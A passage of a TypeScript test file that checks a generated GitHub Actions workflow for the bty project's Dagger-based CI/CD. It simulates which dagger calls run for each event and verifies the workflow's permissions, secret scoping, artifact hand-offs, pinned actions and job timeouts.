/**
 * The drop-in ci-cd.yml and this repository's own ci.yml, read by GitHub's
 * own workflow parser (@actions/workflow-parser) and expression engine
 * (@actions/expressions). From the parsed drop-in, for every event and path
 * filter, the test works out which `dagger call`s run and in which order
 * (triggers, branch/tag/path filters, job `if:` and `needs`, step order) and
 * compares that with `plan`. Path patterns are matched with picomatch, not
 * with plan.ts's own matcher.
 */
import { readFileSync } from "node:fs";
import { resolve } from "node:path";

import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
import { truthy } from "@actions/expressions/result";
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import type { Job, WorkflowTemplate } from "@actions/workflow-parser/model/workflow-template";
import picomatch from "picomatch";
import { beforeEach, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";

import { type DropInCall, timeoutMinutes } from "../../src/pipeline/job-budget.js";
import { callArgs, plan, plannedCalls, type Plan } from "../../src/pipeline/triggers.js";
import { daggerCall, workflowObject, workflowOptions, workflowYaml } from "../../src/pipeline/workflow.js";

const repoFile = (path: string) => readFileSync(resolve(import.meta.dirname, "../..", path), "utf8");

/** What `dagger call all-checks` runs (the report rows), from the function list. */
const ALL_CHECKS = [
  "lint",
  "test:py-311",
  "test:py-312",
  "test:py-313",
  "test:py-314",
  "typecheck",
  "flash-integration",
  "deploy-integration",
  "deploy-quadlet-integration",
  "build-wheel",
  "docs",
  "build-ipxe",
  "build-netboot-pc",
  "build-ramboot-init",
  "build-usbboot-pc",
  "build-usbboot-rpi",
  "test-pxe:bios",
  "test-pxe:uefi",
  "test-usb-grow",
  "test-usb-ventoy",
];

const MODULE = "github.com/safl/bty-ci@v0.2.0";

/** Parse and convert with GitHub's parser; throws with every error it reports. */
async function load(name: string, content: string): Promise<WorkflowTemplate> {
  const parsed = parseWorkflow({ name, content }, new NoOperationTraceWriter());
  const parseErrors = parsed.context.errors.getErrors().map((e) => e.message);
  expect(parseErrors, `${name}: parser errors`).toEqual([]);
  const template = await convertWorkflowTemplate(parsed.context, parsed.value!);
  expect((template.errors ?? []).map((e) => e.Message), `${name}: conversion errors`).toEqual([]);
  return template;
}

interface Scenario {
  event: "pull_request" | "push" | "workflow_dispatch";
  /** Full ref; for pull_request the base branch. */
  ref: string;
  changedPaths: string[];
  /** github.run_id (runs of one scenario differ only in it). */
  runId?: number;
}

const STATUS_FUNCTIONS = ["success", "always", "failure", "cancelled"];

/** Evaluate an expression as GitHub does when every needed job succeeded. */
function evaluate(expression: string, s: Scenario) {
  const tokens = new Lexer(expression).lex().tokens;
  const ast = new Parser(
    tokens,
    ["github"],
    STATUS_FUNCTIONS.map((name) => ({ name, minArgs: 0, maxArgs: 0 })),
  ).parse();
  const refName = s.ref.replace(/^refs\/(heads|tags)\//, "");
  const github = new data.Dictionary(
    { key: "event_name", value: new data.StringData(s.event) },
    { key: "ref", value: new data.StringData(s.ref) },
    { key: "ref_name", value: new data.StringData(refName) },
    { key: "run_id", value: new data.StringData(String(s.runId ?? 1)) },
  );
  const status = new Map(
    STATUS_FUNCTIONS.map((name) => [
      name,
      { name, minArgs: 0, maxArgs: 0, call: () => new data.BooleanData(name === "success" || name === "always") },
    ]),
  );
  return new Evaluator(ast, new data.Dictionary({ key: "github", value: github }), status).evaluate();
}

/** A job or step condition, as GitHub decides it. */
const evaluateIf = (expression: string, s: Scenario): boolean => truthy(evaluate(expression, s));

/** A workflow string with `${{ … }}` parts, as GitHub expands it. */
const expand = (text: string, s: Scenario): string =>
  text.replace(/\$\{\{(.*?)\}\}/g, (_, e: string) => evaluate(e.trim(), s).coerceString());

const matches = (patterns: string[] | undefined, value: string) =>
  (patterns ?? []).some((p) => picomatch(p, { dot: true })(value));

/** Whether the workflow starts at all (GitHub's trigger rules for these filters). */
function triggered(t: WorkflowTemplate, s: Scenario): boolean {
  if (s.event === "workflow_dispatch") return "workflow_dispatch" in t.events;
  const on = t.events[s.event];
  if (!on) return false;
  const isTag = s.ref.startsWith("refs/tags/");
  const name = s.ref.replace(/^refs\/(heads|tags)\//, "");
  if (isTag) {
    // Tag pushes need a tags filter; path filters are not evaluated for them.
    return s.event === "push" && matches((on as { tags?: string[] }).tags, name);
  }
  if (!matches(on.branches, name)) return false;
  const ignore = on["paths-ignore"];
  if (ignore && s.changedPaths.length && s.changedPaths.every((p) => matches(ignore, p))) return false;
  return true;
}

/** One dagger call found in a run step. */
interface FoundCall {
  name: string;
  args: string[];
  job: string;
  step: number;
  /** Set when the call came from expanding all-checks (its members run in one engine call). */
  group?: string;
}

/** The call after `dagger ... call [bty-ci]`, split into words ($TAG filled in). */
function daggerCalls(run: string, tag: string): string[][] {
  return run
    .split("\n")
    .map((l) => /\bdagger\b.*?\bcall\s+(?:bty-ci\s+)?(.*?)(?:\s*>.*)?$/.exec(l))
    .filter((m): m is RegExpExecArray => m !== null)
    .map((m) => m[1]!.replace(/"\$TAG"/g, tag).split(/\s+/));
}

/** Report name of a call: legs and firmwares as fn:variant. */
function callName(args: string[]): string {
  if (args[0] === "test" && args[1]) return `test:${args[1]}`;
  if (args[0] === "test-pxe") return `test-pxe:${args[args.indexOf("--firmware") + 1]}`;
  return args[0]!;
}

/** Which calls run for a scenario, and which calls finish before each one. */
function simulate(t: WorkflowTemplate, s: Scenario): { calls: FoundCall[]; before: Map<string, Set<string>> } {
  const calls: FoundCall[] = [];
  const before = new Map<string, Set<string>>();
  if (!triggered(t, s)) return { calls, before };
  const tag = s.ref.startsWith("refs/tags/") ? s.ref.slice("refs/tags/".length) : "";
  const ran = new Map<string, FoundCall[]>();
  for (const job of t.jobs as Job[]) {
    const id = job.id.value;
    const needs = (job.needs ?? []).map((n) => n.value);
    if (!needs.every((n) => ran.has(n))) continue;
    if (!evaluateIf(job.if.expression, s)) continue;
    const upstream = needs.flatMap((n) => ran.get(n)!.map((c) => c.name));
    const inJob: FoundCall[] = [];
    job.steps.forEach((step, i) => {
      if (!("run" in step)) return;
      if (step.if && !evaluateIf(step.if.expression, s)) return;
      for (const args of daggerCalls(step.run.toString(), tag)) {
        const earlier = [...upstream, ...inJob.map((c) => c.name)];
        const found: FoundCall[] =
          args[0] === "all-checks-bundle"
            ? ALL_CHECKS.map((name) => ({ name, args, job: id, step: i, group: `${id}#${i}` }))
            : [{ name: callName(args), args, job: id, step: i }];
        for (const f of found) before.set(f.name, new Set(earlier));
        inJob.push(...found);
      }
    });
    ran.set(id, inJob);
    calls.push(...inJob);
  }
  return { calls, before };
}

const SCENARIOS: Scenario[] = [
  { event: "pull_request", ref: "refs/heads/main", changedPaths: [] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["src/bty/cli.py"] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["docs/src/ci.md", "README.md"] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["docs/src/ci.md", "pyproject.toml"] },
  { event: "pull_request", ref: "refs/heads/main", changedPaths: ["CHANGELOG.md", "LICENSE", ".github/workflows/docs.yml"] },
  { event: "pull_request", ref: "refs/heads/release-1", changedPaths: [] },
  { event: "push", ref: "refs/heads/main", changedPaths: [] },
  { event: "push", ref: "refs/heads/main", changedPaths: ["docs/index.md"] },
  { event: "push", ref: "refs/heads/main", changedPaths: ["src/README.md"] },
  { event: "push", ref: "refs/heads/feature", changedPaths: [] },
  { event: "push", ref: "refs/tags/v0.77.2", changedPaths: [] },
  { event: "push", ref: "refs/tags/v0.77.2", changedPaths: ["docs/index.md"] },
  { event: "push", ref: "refs/tags/nightly", changedPaths: [] },
  { event: "workflow_dispatch", ref: "refs/heads/main", changedPaths: [] },
  { event: "workflow_dispatch", ref: "refs/tags/v0.77.2", changedPaths: [] },
  { event: "workflow_dispatch", ref: "refs/heads/feature", changedPaths: ["docs/x.md"] },
];

const label = (s: Scenario) => `${s.event} ${s.ref} [${s.changedPaths.join(", ")}]`;
const ciCdCalls = (p: Plan) => plannedCalls(p).filter((c) => c.workflow === "ci-cd.yml");

describe("both workflows pass GitHub's own parser", () => {
  it("the drop-in, called with -m and as a toolchain", async () => {
    for (const module of [MODULE, ""]) {
      const t = await load("ci-cd.yml", workflowYaml(workflowOptions(module)));
      expect(t.jobs.map((j) => j.id.value)).toEqual(["checks", "github-release", "images", "pypi"]);
    }
  });

  it("this repository's .github/workflows/ci.yml", async () => {
    const t = await load("ci.yml", repoFile(".github/workflows/ci.yml"));
    expect(t.jobs.length).toBeGreaterThan(0);
  });

  it("the parser does reject a broken workflow (so the checks above can fail)", () => {
    const broken = workflowYaml(workflowOptions(MODULE)).replace("runs-on: ubuntu-24.04", "runs-on: [");
    const parsed = parseWorkflow({ name: "broken.yml", content: broken }, new NoOperationTraceWriter());
    expect(parsed.context.errors.getErrors().length).toBeGreaterThan(0);
    const unknownKey = workflowYaml(workflowOptions(MODULE)).replace("timeout-minutes:", "timeout-minutez:");
    const parsed2 = parseWorkflow({ name: "typo.yml", content: unknownKey }, new NoOperationTraceWriter());
    expect(parsed2.context.errors.getErrors().map((e) => e.message).join("\n")).toMatch(/timeout-minutez/);
  });
});

describe("the drop-in's event-to-call mapping agrees with plan", () => {
  // Made before each test, not while tests are collected (D26).
  let template: WorkflowTemplate;
  beforeEach(async () => {
    template = await load("ci-cd.yml", workflowYaml(workflowOptions(MODULE)));
  });

  for (const s of SCENARIOS) {
    it(label(s), () => {
      const p = plan(s.event, s.ref, s.changedPaths);
      const { calls, before } = simulate(template, s);
      const planned = ciCdCalls(p);
      expect(calls.map((c) => c.name).sort()).toEqual(planned.map((c) => c.name).sort());
      for (const c of planned) {
        const found = calls.find((f) => f.name === c.name)!;
        // Arguments: every planned argument is passed (the workflow adds secrets and hand-offs).
        if (!found.group) expect(found.args.slice(0, c.call.length), c.name).toEqual(callArgs(p, c));
        // Order: each need finished earlier, or runs in the same engine call (all-checks' own graph).
        for (const need of c.needs) {
          const sameCall = found.group !== undefined && calls.some((f) => f.name === need && f.group === found.group);
          expect(sameCall || before.get(c.name)!.has(need), `${c.name} needs ${need}`).toBe(true);
        }
      }
    });
  }

  it("covers every kind of outcome: nothing, docs-only skip, all-checks, tag, release", () => {
    const outcomes = SCENARIOS.map((s) => simulate(template, s).calls.map((c) => c.name));
    expect(outcomes.filter((o) => o.length === 0).length).toBe(6);
    expect(outcomes.filter((o) => o.includes("tag-release")).length).toBe(3);
    expect(outcomes.filter((o) => o.includes("publish-pypi")).length).toBe(3);
    expect(outcomes.filter((o) => o.length === ALL_CHECKS.length).length).toBe(4);
  });

  it("the simulation notices a wrong condition (a pull request that could release)", async () => {
    const wf = workflowObject(workflowOptions(MODULE)) as { jobs: Record<string, { if: string }> };
    wf.jobs["github-release"]!.if = "github.event_name != 'push'";
    const { stringify } = await import("yaml");
    const t = await load("mutated.yml", stringify(wf));
    const pr = SCENARIOS.find((s) => s.event === "pull_request" && !s.changedPaths.length)!;
    expect(simulate(t, pr).calls.map((c) => c.name)).toContain("attach-to-release");
  });

  it("the toolchain variant calls the same functions through `call bty-ci`", async () => {
    const t = await load("ci-cd.yml", workflowYaml(workflowOptions("")));
    const s = SCENARIOS.find((x) => x.event === "push" && x.ref === "refs/heads/main" && !x.changedPaths.length)!;
    expect(simulate(t, s).calls.map((c) => c.name).sort()).toEqual([...ALL_CHECKS, "tag-release"].sort());
    expect(workflowYaml(workflowOptions(""))).toContain("dagger --progress=plain call bty-ci all-checks-bundle export --path");
  });
});

/**
 * What each job of the drop-in may do, written from bty's ci-cd.yml (its
 * release jobs and artifacts) and where bty-ci deliberately differs: the jobs that write
 * hold bty's permissions and nothing more; the job that runs bty's code holds
 * read access only. Not computed from src/.
 */
const JOB_TABLE = {
  checks: {
    permissions: { contents: "read" },
    environment: undefined,
    // bty: the build jobs upload these names; run-report is bty-ci's verdict and digests.
    uploads: [
      "run-report", "bty-ipxe-x86_64", "bty-netboot-pc-x86_64", "bty-ramboot-init-x86_64", "bty-usbboot-pc-x86_64-iso", "bty-usbboot-rpi-arm64", "dist", "docs-pdf",
      "docs-html",
      // bty: the test jobs upload their workspaces on failure (pxe-chain-test-*, …).
      "debug-bundles",
    ],
    downloads: [],
    secrets: ["DAGGER_CLOUD_TOKEN", "RELEASE_PAT"],
  },
  "github-release": {
    // bty's attach-to-release: contents: write.
    permissions: { contents: "write" },
    environment: undefined,
    uploads: [],
    // bty's gathered/ pattern (attach-to-release) without usbboot-rpi, plus the report.
    downloads: ["{bty-ipxe-x86_64,bty-netboot-pc-x86_64,bty-ramboot-init-x86_64,bty-usbboot-pc-x86_64-iso,bty-usbboot-rpi-arm64,dist,docs-pdf}", "run-report"],
    secrets: ["DAGGER_CLOUD_TOKEN", "GITHUB_TOKEN"],
  },
  images: {
    // bty's publish-docker: packages: write, contents: read; it downloads dist and the iPXE seed.
    permissions: { contents: "read", packages: "write" },
    environment: undefined,
    uploads: [],
    downloads: ["{bty-ipxe-x86_64,dist}", "run-report"],
    secrets: ["DAGGER_CLOUD_TOKEN", "GITHUB_TOKEN"],
  },
  pypi: {
    // bty's publish-pypi: id-token: write in environment pypi with its URL; contents: read for bty-ci's checkout of pyproject.toml.
    permissions: { contents: "read", "id-token": "write" },
    environment: { name: "pypi", url: "${{ steps.publish-pypi.outputs.url }}" },
    uploads: [],
    downloads: ["dist", "run-report"],
    secrets: ["DAGGER_CLOUD_TOKEN"],
  },
} as const;

// The drop-in is made before each test, not once per describe: code run while
// tests are collected counts as no test's in a mutation run (D26).
describe("the drop-in's contents", () => {
  type Jobs = Record<string, Record<string, unknown> & { steps: Record<string, unknown>[] }>;
  let wf: Record<string, unknown> & { jobs: Jobs; on: unknown };
  let jobs: Jobs;
  beforeEach(() => {
    wf = parseYaml(workflowYaml(workflowOptions(MODULE)));
    jobs = wf.jobs;
  });
  const runs = (job: string) => jobs[job]!.steps.map((s) => s.run).filter(Boolean).join("\n");
  const stepNamed = (job: string, name: string) => jobs[job]!.steps.find((s) => s.name === name)!;
  const artifactSteps = (job: string, action: "upload" | "download") =>
    jobs[job]!.steps.filter((s) => String(s.uses).startsWith(`actions/${action}-artifact@`)).map((s) => s.with as Record<string, unknown>);
  const secretsOf = (value: unknown) => [...new Set([...JSON.stringify(value).matchAll(/secrets\.(\w+)/g)].map((m) => m[1]))].sort();

  it("names every step for what it does", () => {
    const install = "Install the Dagger CLI v0.21.8 (dagger/dagger-for-github v8.4.1)";
    const names = (job: string) => jobs[job]!.steps.map((s) => s.name);
    expect(names("checks")).toEqual([
      "Check out bty", "Free disk space for the live image builds", "Allow KVM (before the Dagger engine starts)",
      "Run arm64 binaries: qemu-user binfmt for build-usbboot-rpi (before the Dagger engine starts)", install,
      "check-not-published", "all-checks",
      ...JOB_TABLE.checks.uploads.map((a) => `Upload ${a}`),
      "Verdict", "tag-release",
    ]);
    const handOff = ["Check out bty", install, "Download the checks' release files", "Download the checks' run report"];
    expect(names("github-release")).toEqual([...handOff, "attach-to-release"]);
    expect(names("images")).toEqual([...handOff, "publish-docker", "publish-tftp"]);
    expect(names("pypi")).toEqual([...handOff, "publish-pypi"]);
  });

  it("lets the checks job's engine run arm64 binaries (build-usbboot-rpi's chroot), F flag checked, before the engine starts", () => {
    const steps = jobs.checks!.steps;
    const at = steps.findIndex((s) => String(s.name).startsWith("Run arm64 binaries"));
    expect(String(steps[at]!.run).split("\n")).toEqual([
      "sudo apt-get update -q",
      "sudo apt-get install -y -q --no-install-recommends qemu-user-static",
      "grep -E '^(enabled|interpreter|flags)' /proc/sys/fs/binfmt_misc/qemu-aarch64",
      "grep -q '^flags: .*F' /proc/sys/fs/binfmt_misc/qemu-aarch64",
    ]);
    expect(at).toBeLessThan(steps.findIndex((s) => String(s.run ?? "").includes("dagger ")));
  });

  it("keeps bty's triggers and path filters", () => {
    const ignore = ["docs/**", "README.md", "CHANGELOG.md", "LICENSE", ".github/workflows/docs.yml"];
    expect(wf.on).toEqual({
      pull_request: { branches: ["main"], "paths-ignore": ignore },
      push: { branches: ["main"], tags: ["v*"], "paths-ignore": ignore },
      workflow_dispatch: null,
    });
  });

  it("grants nothing by default; each job bty's permissions and environment for what it writes (table)", () => {
    expect(wf.permissions).toEqual({});
    for (const [id, want] of Object.entries(JOB_TABLE)) {
      expect(jobs[id]!.permissions, id).toEqual(want.permissions);
      expect(jobs[id]!.environment, id).toEqual(want.environment);
    }
    expect(Object.keys(jobs)).toEqual(Object.keys(JOB_TABLE));
  });

  it("hands the checks' artifacts on: each writing job downloads only what the checks uploaded, from the same run", () => {
    for (const [id, want] of Object.entries(JOB_TABLE)) {
      expect(artifactSteps(id, "upload").map((w) => w.name), id).toEqual(want.uploads);
      expect(artifactSteps(id, "download").map((w) => w.pattern ?? w.name), id).toEqual(want.downloads);
      // No run-id or token: the artifacts of this run (a re-run keeps them), nothing from elsewhere.
      for (const w of artifactSteps(id, "download")) expect(Object.keys(w).sort(), id).toEqual(w.name ? ["name", "path"] : ["path", "pattern"]);
    }
    // Where the writing calls read them: --gathered gathered, --dist gathered/dist, --report run-report/report.json.
    for (const id of ["github-release", "images", "pypi"]) {
      expect(artifactSteps(id, "download").map((w) => w.path), id).toEqual(["gathered", "run-report"]);
    }
    const uploaded = new Set(artifactSteps("checks", "upload").map((w) => String(w.name)));
    for (const id of ["github-release", "images", "pypi"]) {
      const names = artifactSteps(id, "download").flatMap((w) => String(w.pattern ?? w.name).replace(/[{}]/g, "").split(","));
      for (const n of names) expect(uploaded.has(n), `${id} downloads ${n}`).toBe(true);
    }
    // Uploads survive a failed check (what did build is kept) and a re-run of the checks job replaces them.
    for (const step of jobs.checks!.steps.filter((s) => String(s.uses).startsWith("actions/upload-artifact@"))) {
      expect(step.if).toBe("${{ !cancelled() }}");
      expect((step.with as Record<string, unknown>).overwrite).toBe(true);
    }
  });

  it("every writing call verifies what it sends against the checks' report", () => {
    expect(runs("github-release")).toBe(
      `dagger --progress=plain -m ${MODULE} call attach-to-release --tag "$TAG" --token env:GITHUB_TOKEN --gathered gathered --report run-report/report.json`,
    );
    expect(runs("images").split("\n")).toEqual([
      `dagger --progress=plain -m ${MODULE} call publish-docker --tag "$TAG" --revision "$GITHUB_SHA" --registry-user "$GITHUB_ACTOR" ` +
        `--registry-token env:GITHUB_TOKEN --ipxe-seed "gathered/bty-ipxe-x86_64/bty-ipxe-x86_64-$TAG.efi" --dist gathered/dist --report run-report/report.json`,
      `dagger --progress=plain -m ${MODULE} call publish-tftp --tag "$TAG" --revision "$GITHUB_SHA" --registry-user "$GITHUB_ACTOR" ` +
        `--registry-token env:GITHUB_TOKEN --ipxe-seed "gathered/bty-ipxe-x86_64/bty-ipxe-x86_64-$TAG.efi" --report run-report/report.json`,
    ]);
    expect(runs("pypi")).toContain(
      `call publish-pypi --tag "$TAG" --dist gathered/dist --report run-report/report.json ` +
        '--oidc-request-token env:ACTIONS_ID_TOKEN_REQUEST_TOKEN --oidc-request-url env:ACTIONS_ID_TOKEN_REQUEST_URL | tee "$RUNNER_TEMP/pypi.txt"',
    );
    // The environment's URL: the project page line publish-pypi prints last.
    expect(stepNamed("pypi", "publish-pypi").id).toBe("publish-pypi");
    expect(runs("pypi")).toContain(`echo "url=$(sed -n 's/^project page: //p' "$RUNNER_TEMP/pypi.txt")" >> "$GITHUB_OUTPUT"`);
    // pipefail: a failed upload piped into tee must still fail the step.
    expect(runs("pypi").split("\n")[0]).toBe("set -euo pipefail");
  });

  it("tags in the checks job, after the verdict, by the report just written; only on main", () => {
    const tag = stepNamed("checks", "tag-release");
    expect(tag.run).toBe(
      `dagger --progress=plain -m ${MODULE} call tag-release --token env:RELEASE_PAT --report "$RUNNER_TEMP/run/report.json"`,
    );
    expect(tag.if).toBe("github.event_name != 'pull_request' && github.ref == 'refs/heads/main'");
    expect(tag.env).toEqual({ RELEASE_PAT: "${{ secrets.RELEASE_PAT }}" });
    expect(stepNamed("checks", "Verdict").run).toBe(
      `if ! grep -qxF '<!-- bty-ci-report: passed -->' "$RUNNER_TEMP/run/report.md"; then\n` +
        `  echo "::error::all-checks: a job failed; its last log lines are in the job summary"\n  exit 1\nfi`,
    );
    expect(stepNamed("checks", "check-not-published").if).toBe("startsWith(github.ref, 'refs/tags/v')");
  });

  it("exports all-checks' bundle and shows its report in the job summary", () => {
    expect(stepNamed("checks", "all-checks").run).toBe(
      "set -euo pipefail\n" +
        `dagger --progress=plain -m ${MODULE} call all-checks-bundle export --path "$RUNNER_TEMP/run"\n` +
        'cat "$RUNNER_TEMP/run/report.md" >> "$GITHUB_STEP_SUMMARY"',
    );
    const upload = (name: string) => artifactSteps("checks", "upload").find((w) => w.name === name)!;
    expect(upload("run-report").path).toBe("${{ runner.temp }}/run/report.md\n${{ runner.temp }}/run/report.json");
    expect(upload("dist").path).toBe("${{ runner.temp }}/run/gathered/dist/");
    expect(upload("docs-html").path).toBe("${{ runner.temp }}/run/docs-html/");
    // A passing run has no debug bundle: nothing to warn about.
    expect(upload("debug-bundles")).toMatchObject({ path: "${{ runner.temp }}/run/debug/", "if-no-files-found": "ignore" });
    expect(upload("dist")["if-no-files-found"]).toBe("warn");
  });

  it("concurrency: a newer pull request run cancels the older; two quick pushes to main both run; tags never wait on each other", () => {
    const c = wf.concurrency as { group: string; "cancel-in-progress": string };
    const group = (s: Scenario) => expand(c.group, s);
    const cancels = (s: Scenario) => expand(c["cancel-in-progress"], s) === "true";
    const pr: Scenario = { event: "pull_request", ref: "refs/pull/7/merge", changedPaths: [] };
    expect(group({ ...pr, runId: 1 })).toBe(group({ ...pr, runId: 2 }));
    expect(cancels(pr)).toBe(true);
    const main: Scenario = { event: "push", ref: "refs/heads/main", changedPaths: [] };
    expect(group({ ...main, runId: 1 })).not.toBe(group({ ...main, runId: 2 }));
    expect(cancels(main)).toBe(false);
    for (const s of [{ event: "push", ref: "refs/tags/v1.0.0" }, { event: "workflow_dispatch", ref: "refs/heads/main" }] as const) {
      expect(group({ ...s, changedPaths: [], runId: 1 }), s.ref).not.toBe(group({ ...s, changedPaths: [], runId: 2 }));
      expect(cancels({ ...s, changedPaths: [] }), s.ref).toBe(false);
    }
    expect(group({ ...pr, runId: 1 })).toBe("ci-cd-refs/pull/7/merge");
  });

  it("a fork's pull request needs no secret and no variable: every step it runs uses at most the optional Dagger Cloud token", () => {
    const pr: Scenario = { event: "pull_request", ref: "refs/heads/main", changedPaths: [] };
    expect(workflowYaml(workflowOptions(MODULE))).not.toContain("vars.");
    for (const [id, job] of Object.entries(jobs)) {
      if (!evaluateIf(String(job.if ?? "success()"), pr)) continue;
      const ran = job.steps.filter((step) => !step.if || evaluateIf(String(step.if).replace(/^\$\{\{(.*)\}\}$/, "$1"), pr));
      expect(secretsOf([job.env, ran]), id).toEqual(["DAGGER_CLOUD_TOKEN"]);
    }
  });

  it("secrets reach only the job and step that send with them, as env: references", () => {
    for (const [id, want] of Object.entries(JOB_TABLE)) expect(secretsOf(jobs[id]), id).toEqual([...want.secrets].sort());
    for (const [id, job] of Object.entries(jobs)) {
      expect((job.env as Record<string, string>).DAGGER_CLOUD_TOKEN, id).toBe("${{ secrets.DAGGER_CLOUD_TOKEN }}");
      expect((job.env as Record<string, string>).TAG, id).toBe("${{ github.ref_name }}");
      const withToken = job.steps.filter((s) => JSON.stringify(s).includes("secrets.")).map((s) => s.name);
      expect(withToken, id).toEqual({ checks: ["tag-release"], "github-release": ["attach-to-release"], images: ["publish-docker", "publish-tftp"], pypi: [] }[id]);
      // No expression is expanded inside a script (no injection through ref names).
      expect(runs(id), id).not.toContain("${{");
    }
  });

  it("sizes every job's timeout from the calls in its own lines and its artifact steps, on a pinned runner", () => {
    for (const [id, j] of Object.entries(jobs)) {
      // The job's work as its YAML says it, not as workflow.ts declares it.
      const calls = daggerCalls(runs(id), "v0.77.2").map((args) => args[0]!) as DropInCall[];
      const artifactSteps = j.steps.filter((s) => /^actions\/(upload|download)-artifact@/.test(String(s.uses))).length;
      const freesDisk = j.steps.some((s) => String(s.run).includes("sudo rm -rf /usr/share/dotnet"));
      const emulatesArm64 = j.steps.some((s) => String(s.run).includes("apt-get install -y -q --no-install-recommends qemu-user-static"));
      expect(j["timeout-minutes"], id).toBe(timeoutMinutes({ calls, artifactSteps, freesDisk, emulatesArm64 }));
      expect(j["runs-on"]).toBe("ubuntu-24.04");
    }
    // Worked by hand from job-budget.ts: checks (180 + 300 + 90 + 10 × 120 + 97 + 1786 + 97) × 1.5 = 5625 s;
    // github-release (180 + 2 × 120 + 117) × 1.5 = 805.5 s; images (180 + 2 × 120 + 2 × 1890) × 1.5 = 6300 s;
    // pypi (180 + 2 × 120 + 102) × 1.5 = 783 s.
    expect(Object.fromEntries(Object.entries(jobs).map(([id, j]) => [id, j["timeout-minutes"]]))).toEqual({ checks: 94, "github-release": 14, images: 105, pypi: 14 });
    expect(Object.fromEntries(Object.keys(jobs).map((k) => [k, daggerCalls(runs(k), "v0.77.2").map((a) => a[0])]))).toEqual({
      checks: ["check-not-published", "all-checks-bundle", "tag-release"],
      "github-release": ["attach-to-release"],
      images: ["publish-docker", "publish-tftp"],
      pypi: ["publish-pypi"],
    });
  });

  it("uses only actions pinned by commit: checkout, the pinned Dagger CLI, artifact upload and download", () => {
    const pinned = {
      "actions/checkout": "d23441a48e516b6c34aea4fa41551a30e30af803",
      "dagger/dagger-for-github": "27b130bf0f79a7f6fbbbe0fbca6760dc9bb40a77",
      "actions/upload-artifact": "ea165f8d65b6e75b540449e92b4886f43607fa02",
      "actions/download-artifact": "d3f86a106a0bac45b974a628896c90dbdf5c8093",
    } as Record<string, string>;
    for (const [id, j] of Object.entries(jobs)) {
      for (const uses of j.steps.map((s) => s.uses).filter(Boolean).map(String)) {
        const [action, ref] = uses.split("@");
        expect(pinned[action!], `${id}: ${uses}`).toBe(ref);
      }
      const install = j.steps.find((s) => String(s.uses).startsWith("dagger/"))!;
      expect(install.with).toEqual({ version: "0.21.8", verb: "version" });
      expect(j.steps.find((s) => String(s.uses).startsWith("actions/checkout"))!.with).toEqual({ "persist-credentials": false });
    }
    const installed = jobs.checks!.steps.find((s) => String(s.uses).startsWith("dagger/"))!.with as { version: string };
    expect(`v${installed.version}`).toBe(JSON.parse(repoFile("dagger.json")).engineVersion);
  });

  it("opens /dev/kvm before the engine starts and frees disk in the checks job only (the writers boot nothing)", () => {
    const names = jobs.checks!.steps.map((s) => s.name);
    const kvm = names.indexOf("Allow KVM (before the Dagger engine starts)");
    const install = names.findIndex((n) => String(n).startsWith("Install the Dagger CLI"));
    expect(kvm).toBeGreaterThan(-1);
    expect(kvm).toBeLessThan(install);
    expect(names).toContain("Free disk space for the live image builds");
    for (const id of ["github-release", "images", "pypi"]) expect(runs(id), id).not.toMatch(/kvm|docker image prune/);
  });

  it("starts with a comment saying how it was made", () => {
    expect(workflowYaml(workflowOptions(MODULE)).split("\n")[0]).toBe(
      "# bty's CI/CD through bty-ci (generated by `dagger call workflow`; regenerate, don't edit).",
    );
  });
});

describe("the drop-in's text", () => {
  let text = "";
  beforeEach(() => {
    text = workflowYaml(workflowOptions(MODULE));
  });

  it("names its jobs for what they call", () => {
    const jobs = parseYaml(text).jobs as Record<string, { name: string }>;
    expect(Object.fromEntries(Object.entries(jobs).map(([k, j]) => [k, j.name]))).toEqual({
      checks: "All checks, builds and e2e tests (bty-ci all-checks-bundle)",
      "github-release": "GitHub release of the tag (bty-ci attach-to-release)",
      images: "Container images (bty-ci publish-docker, publish-tftp)",
      pypi: "Publish to PyPI (bty-ci publish-pypi)",
    });
  });

  it("is plain YAML a reviewer can read: no anchors, no folded lines, an empty workflow_dispatch", () => {
    expect(text).not.toMatch(/[&*]a\d/);
    expect(text).toContain(`\n          dagger --progress=plain -m ${MODULE} call all-checks-bundle export --path "$RUNNER_TEMP/run"\n`);
    expect(text).toMatch(/^  workflow_dispatch:$/m);
    expect(text).not.toContain("null");
  });

  it("frees disk and opens KVM with exactly these commands", () => {
    const steps = parseYaml(text).jobs.checks.steps as { name: string; run?: string }[];
    expect(steps.find((s) => s.name === "Free disk space for the live image builds")!.run).toBe(
      "sudo rm -rf /usr/share/dotnet /usr/local/lib/android /opt/ghc /opt/hostedtoolcache/CodeQL\nsudo docker image prune --all --force\ndf -h /",
    );
    expect(steps.find((s) => s.name === "Allow KVM (before the Dagger engine starts)")!.run).toBe(
      [
        `echo 'KERNEL=="kvm", GROUP="kvm", MODE="0666", OPTIONS+="static_node=kvm"' | sudo tee /etc/udev/rules.d/99-kvm4all.rules`,
        "sudo udevadm control --reload-rules",
        "sudo udevadm trigger --name-match=kvm",
        "ls -l /dev/kvm",
      ].join("\n"),
    );
  });

  it("starts with the header saying what it does and which secrets it uses", () => {
    expect(text.split("\n").slice(0, 8)).toEqual([
      "# bty's CI/CD through bty-ci (generated by `dagger call workflow`; regenerate, don't edit).",
      "# Every run: all checks, builds and e2e tests on one engine (checks, read-only),",
      "# the run report in the job summary, artifacts uploaded. main (push or dispatch):",
      "# tag-release by that report. v* tags: check-not-published first; then jobs that",
      "# run no bty code verify the checks' artifacts against the report and publish:",
      "# GitHub release, images, PyPI last. Docs-only changes are left to docs.yml.",
      "# Secrets: RELEASE_PAT (tag push), DAGGER_CLOUD_TOKEN (optional traces).",
      "name: CI",
    ]);
  });
});

describe("workflow options", () => {
  it("calls a pinned remote module (the checkout comes from the workspace), or the toolchain", () => {
    expect(daggerCall({ module: MODULE })).toBe(`dagger --progress=plain -m ${MODULE} call`);
    expect(daggerCall({ module: "" })).toBe("dagger --progress=plain call bty-ci");
  });

  it("rejects a module without a pinned ref, naming the fix", () => {
    expect(() => workflowOptions("github.com/safl/bty-ci")).toThrow(
      'module "github.com/safl/bty-ci" has no pinned ref: pass e.g. github.com/safl/bty-ci@v1.2.3 (a tag or commit), or "" when bty-ci is installed as a toolchain',
    );
